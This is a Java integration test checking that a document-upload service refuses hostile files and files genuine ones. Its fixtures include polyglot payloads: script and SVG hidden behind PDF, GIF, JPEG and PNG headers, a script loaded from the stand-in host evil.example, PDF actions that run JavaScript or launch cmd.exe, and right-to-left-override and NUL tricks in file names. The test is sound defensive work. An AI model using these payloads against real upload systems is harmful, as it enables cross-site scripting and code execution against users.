package com.tierline.faults;

import static org.assertj.core.api.Assertions.assertThat;

import com.tierline.application.service.ApplicationService;
import com.tierline.document.service.DocumentInfo;
import com.tierline.document.service.DocumentRefusedException;
import com.tierline.document.service.DocumentUpload;
import com.tierline.support.Drafts;
import com.tierline.support.SignIn;
import com.tierline.support.TierlineIT;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.jdbc.core.JdbcTemplate;
import org.springframework.security.core.userdetails.UserDetailsService;

/**
 * The attack test's hostile uploads: polyglots behind a PDF or image header, names whose ending disagrees with the
 * content, bidi and NUL characters in names. Each is refused with a sentence and stores nothing; the genuine files
 * next to them are filed. Prints how many were tried and held.
 */
@TierlineIT
class HostileUploadsIT {

    static final byte[] PDF = ascii("%PDF-1.4\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF");

    @Autowired ApplicationService applications;
    @Autowired UserDetailsService users;
    @Autowired JdbcTemplate jdbc;

    @AfterEach
    void signOut() {
        SignIn.out();
    }

    @Test
    void polyglotsMismatchedEndingsAndNulNamesAreRefusedAndNothingIsStored() throws Exception {
        Map<String, DocumentUpload> hostile = new LinkedHashMap<>();
        hostile.put("HTML and script behind %PDF", new DocumentUpload("invoice.pdf",
                ascii("%PDF-1.4\n<html><body><script>alert(document.cookie)</script></body></html>")));
        hostile.put("upper-case SCRIPT behind %PDF", new DocumentUpload("invoice.pdf",
                ascii("%PDF-1.7\n%\u00e2\u00e3\n<SCRIPT SRC=//evil.example/x.js></SCRIPT>")));
        hostile.put("PDF with a JavaScript open action", new DocumentUpload("contract.pdf",
                ascii("%PDF-1.4\n1 0 obj << /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >> endobj\n%%EOF")));
        hostile.put("PDF launching a program", new DocumentUpload("contract.pdf",
                ascii("%PDF-1.4\n1 0 obj << /OpenAction << /S /Launch /F (cmd.exe) >> >> endobj\n%%EOF")));
        hostile.put("GIF/JS polyglot named x.js", new DocumentUpload("x.js",
                ascii("GIF89a/*\u0000\u0000\u0000\u0000*/=1;alert(document.domain);//")));
        hostile.put("GIF with HTML after the header", new DocumentUpload("chart.gif",
                ascii("GIF89a\u0001\u0000\u0001\u0000<html><img src=x onerror=alert(1)></html>")));
        hostile.put("JPEG with javascript: in a comment", new DocumentUpload("photo.jpg", bytes(new byte[] {
                (byte) 0xFF, (byte) 0xD8, (byte) 0xFF, (byte) 0xFE, 0, 24}, ascii("<a href=javascript:alert(1)>"))));
        hostile.put("PNG with an SVG inside", new DocumentUpload("map.png", bytes(new byte[] {(byte) 0x89, 'P', 'N',
                'G', '\r', '\n', 0x1A, '\n'}, ascii("<svg onload=alert(1)>"))));
        hostile.put("a PDF named .exe behind U+202E", new DocumentUpload("invoice\u202Efdp.exe", PDF));
        hostile.put("a PDF named .html", new DocumentUpload("statement.html", PDF));
        hostile.put("a PDF without an ending", new DocumentUpload("statement", PDF));
        hostile.put("a Word file named .pdf", new DocumentUpload("contract.pdf", docx()));
        hostile.put("NUL in the name", new DocumentUpload("contract.exe\u0000.pdf", PDF));
        SignIn.as(users, "exporter1");
        String reference = applications.saveDraft(null, Drafts.h100s("AE"));
        int tried = 0;
        int held = 0;
        List<String> failures = new ArrayList<>();
        for (var upload : hostile.entrySet()) {
            tried++;
            int before = documents();
            try {
                applications.attachDocuments(reference, List.of(new DocumentUpload("good.pdf", PDF), upload.getValue()));
                failures.add(upload.getKey() + ": accepted");
            } catch (DocumentRefusedException refused) {
                if (documents() == before && !refused.getMessage().isBlank()
                        && refused.getMessage().codePoints().noneMatch(cp -> cp < 0x20 || cp == 0x202E)) {
                    held++;
                } else {
                    failures.add(upload.getKey() + ": " + refused.getMessage());
                }
            }
        }
        System.out.printf("HOSTILE-UPLOADS: %d tried, %d held%n", tried, held);
        assertThat(failures).isEmpty();
    }

    @Test
    void theRefusalSaysWhatWasFoundAndWhatToDo() {
        SignIn.as(users, "exporter1");
        String reference = applications.saveDraft(null, Drafts.h100s("AE"));
        assertThat(refusal(reference, new DocumentUpload("invoice.pdf", ascii("%PDF-1.4\n<script>alert(1)</script>"))))
                .isEqualTo("invoice.pdf is a PDF document that also carries web-page or script content (<script), "
                        + "which a browser or reader could run. Save or print it to PDF again and upload that copy.");
        assertThat(refusal(reference, new DocumentUpload("x.js", ascii("GIF89a/*\u0000\u0000*/=1;alert(1)"))))
                .isEqualTo("x.js is a GIF image by its content, but its name ends in .js. Name it .gif and try again.");
        assertThat(refusal(reference, new DocumentUpload("invoice\u202Efdp.exe", PDF)))
                .isEqualTo("invoicefdp.exe is a PDF document by its content, but its name ends in .exe. Name it .pdf "
                        + "and try again.");
        assertThat(refusal(reference, new DocumentUpload("a\u0000.pdf", PDF)))
                .isEqualTo("The name of a_.pdf contains a NUL character; rename the file and choose it again.");
    }

    @Test
    void genuineFilesAreFiledUnderTheirTypeWithDirectionCharactersTakenOutOfTheName() throws Exception {
        SignIn.as(users, "exporter1");
        String reference = applications.saveDraft(null, Drafts.h100s("AE"));
        List<DocumentInfo> filed = applications.attachDocuments(reference, List.of(
                new DocumentUpload("invoice\u202Efdp.pdf", PDF), new DocumentUpload("Contract.DOCX", docx()),
                new DocumentUpload("scan.JPEG", new byte[] {(byte) 0xFF, (byte) 0xD8, (byte) 0xFF, (byte) 0xE0, 0, 16})));
        assertThat(filed).extracting(DocumentInfo::fileName).containsExactly("invoicefdp.pdf", "Contract.DOCX",
                "scan.JPEG");
        assertThat(filed).extracting(DocumentInfo::contentType).containsExactly("application/pdf",
                "application/vnd.openxmlformats-officedocument.wordprocessingml.document", "image/jpeg");
    }

    private String refusal(String reference, DocumentUpload upload) {
        try {
            applications.attachDocuments(reference, List.of(upload));
            return "accepted";
        } catch (DocumentRefusedException refused) {
            return refused.getMessage();
        }
    }

    private int documents() {
        return jdbc.queryForObject("select count(*) from case_document", Integer.class);
    }

    static byte[] ascii(String text) {
        return text.getBytes(StandardCharsets.ISO_8859_1);
    }

    static byte[] bytes(byte[] head, byte[] tail) {
        byte[] all = new byte[head.length + tail.length];
        System.arraycopy(head, 0, all, 0, head.length);
        System.arraycopy(tail, 0, all, head.length, tail.length);
        return all;
    }

    static byte[] docx() throws Exception {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
            for (String entry : List.of("[Content_Types].xml", "word/document.xml")) {
                zip.putNextEntry(new ZipEntry(entry));
                zip.write(ascii("<x/>"));
                zip.closeEntry();
            }
        }
        return bytes.toByteArray();
    }
}
